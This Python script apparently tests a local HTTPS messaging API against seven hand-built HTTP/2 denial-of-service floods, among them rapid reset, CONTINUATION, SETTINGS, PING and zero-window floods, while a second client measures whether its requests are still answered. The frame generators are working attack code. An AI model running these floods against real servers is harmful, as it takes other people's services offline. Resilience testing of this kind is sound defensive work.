"""Floods of HTTP/2 frames over TLS, one connection each, while somebody else is served.

usage: http2_floods.py PORT USER PASSWORD

Prints a line for each flood: its name, what became of the connection, how many frames went out, how many calls of somebody else were
answered meanwhile, and how long the slowest took in milliseconds. Frames are made by hand (RFC 9113): no library would send these.
"""

import base64
import http.client
import socket
import ssl
import struct
import sys
import threading
import time

PORT, USER, PASSWORD = int(sys.argv[1]), sys.argv[2], sys.argv[3]
LONGEST = 4.0
DATA, HEADERS, RST, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
CONTEXT = ssl.create_default_context()
CONTEXT.check_hostname = False
CONTEXT.verify_mode = ssl.CERT_NONE


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


# :method GET or POST, :scheme https, :path /, :authority x
GET, POST = b"\x82\x87\x84\x41\x01x", b"\x83\x87\x84\x41\x01x"


def rapid_reset():
    for stream in range(1, 200_001, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) + frame(RST, 0, stream, struct.pack(">I", 8))


def continuation():
    yield frame(HEADERS, 0, 1, GET)
    for _ in range(10_000):
        yield frame(CONTINUATION, 0, 1, b"\x00\x04aaaa\x7f\x80\x7d" + b"b" * 16_000)


def settings():
    for _ in range(200_000):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))


def ping():
    for _ in range(200_000):
        yield frame(PING, 0, 0, b"12345678")


def empty_data():
    yield frame(HEADERS, END_HEADERS, 1, POST)
    for _ in range(300_000):
        yield frame(DATA, 0, 1)


def streams():
    for stream in range(1, 60_001, 2):
        yield frame(HEADERS, END_HEADERS, stream, POST)


def closed_window():
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    # /openapi.json is long; none of it can be sent.
    path = b"\x04\x0d/openapi.json"
    for stream in range(1, 20_001, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, b"\x82\x87" + path + b"\x41\x01x")


def connect(protocols):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(protocols)
    return context.wrap_socket(socket.create_connection(("127.0.0.1", PORT), timeout=LONGEST))


class Other(threading.Thread):
    """Somebody who sends messages all the while."""

    def __init__(self):
        super().__init__(daemon=True)
        self.over, self.answered, self.slowest = False, 0, 0.0

    def run(self):
        login = base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()
        while not self.over or self.answered < 3:
            began = time.monotonic()
            call = http.client.HTTPSConnection("127.0.0.1", PORT, timeout=10, context=CONTEXT)
            body = '{"to":["0701234567"],"text":"Hej"}'
            call.request("POST", "/api/v1/messages", body, {"Authorization": "Basic " + login, "Content-Type": "application/json"})
            answer = call.getresponse()
            answer.read()
            call.close()
            assert answer.status == 202, answer.status
            self.answered += 1
            self.slowest = max(self.slowest, time.monotonic() - began)


def flood(frames):
    stream = connect(["h2"])
    assert stream.selected_alpn_protocol() == "h2"
    stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    sent, until, batch = 0, time.monotonic() + LONGEST, bytearray()
    for one in frames:
        batch += one
        sent += 1
        if len(batch) < 16_384:
            continue
        try:
            stream.settimeout(max(0.05, until - time.monotonic()))
            stream.sendall(batch)
        except TimeoutError:
            return stream, "held back", sent
        except OSError:
            return stream, "closed", sent
        batch.clear()
        if time.monotonic() >= until:
            return stream, "borne", sent
    return stream, "borne", sent


for name in [rapid_reset, continuation, settings, ping, empty_data, streams, closed_window]:
    other = Other()
    other.start()
    stream, end, sent = flood(name())
    other.over = True
    other.join(30)
    assert not other.is_alive(), name
    print(name.__name__, end.replace(" ", "_"), sent, other.answered, int(other.slowest * 1000), flush=True)
    # Open until the end: what the other side keeps for it shows.
    globals().setdefault("open_streams", []).append(stream)
